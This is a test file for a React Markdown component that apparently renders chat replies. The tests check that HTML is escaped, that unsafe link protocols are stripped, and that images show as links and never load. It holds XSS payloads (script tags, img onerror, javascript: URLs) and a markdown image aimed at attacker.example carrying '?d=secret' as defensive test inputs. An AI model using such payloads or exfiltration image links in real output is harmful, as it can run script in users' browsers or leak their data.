import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "./Markdown";

const render = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

describe("a reply's markdown", () => {
  it("shows text that looks like a tag as written, not deleted", () => {
    expect(render("In Java, use List<String> for that.")).toContain("use List&lt;String&gt; for that.");
    expect(render("Compare a<b and c>d; a < b works.")).toContain("Compare a&lt;b and c&gt;d; a &lt; b works.");
    expect(render("Wrap the fields in a <fieldset> and add a <legend>.")).toContain("a &lt;fieldset&gt; and add a &lt;legend&gt;.");
  });

  it("never renders a reply's HTML: a script or an image with onerror stays inert text", () => {
    const script = render("<script>alert(1)</script>hi");
    expect(script).not.toContain("<script");
    expect(script).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
    const img = render('<img src=x onerror="alert(1)">');
    expect(img).not.toMatch(/<img/);
    expect(img).toContain("&lt;img src=x onerror=");
    const inline = render('Look: <a href="javascript:alert(1)" onclick="x()">me</a>');
    expect(inline).not.toMatch(/<a /);
    expect(inline).toContain("&lt;a href=");
  });

  it("drops a link's unsafe protocol", () => {
    expect(render("[click](javascript:alert(1))")).not.toContain("javascript:");
  });
});

describe("a reply's GitHub markdown", () => {
  it("renders tables (in a box that scrolls sideways), strikethrough and bare URLs as links", () => {
    const table = render("| a | b |\n|---|---|\n| 1 | 2 |");
    expect(table).toMatch(/<div[^>]*class="[^"]*overflow-x-auto[^"]*"[^>]*><table[^>]*><thead><tr><th>a<\/th><th>b<\/th>/);
    expect(render("~~gone~~ now")).toContain("<del>gone</del> now");
    expect(render("See https://example.com/docs for more")).toMatch(
      /<a href="https:\/\/example.com\/docs"[^>]*rel="noopener noreferrer nofollow"[^>]*>https:\/\/example.com\/docs<\/a>/,
    );
  });

  it("shows an image as a link named by its alt text, never loading it", () => {
    const away = render("![a chart](https://attacker.example/x.png?d=secret)");
    expect(away).not.toContain("<img");
    expect(away).toMatch(/<a href="https:\/\/attacker.example\/x.png\?d=secret"[^>]*>a chart<\/a>/);
    const here = render("![pixel](/api/v1/tokens)");
    expect(here).not.toContain("<img");
    expect(here).toMatch(/<a href="\/api\/v1\/tokens"[^>]*>pixel<\/a>/);
    expect(render("![](https://example.com/a.png)")).toMatch(/<a href="https:\/\/example.com\/a.png"[^>]*>https:\/\/example.com\/a.png<\/a>/);
    expect(render("![x](javascript:alert(1))")).not.toContain("javascript:");
  });
});
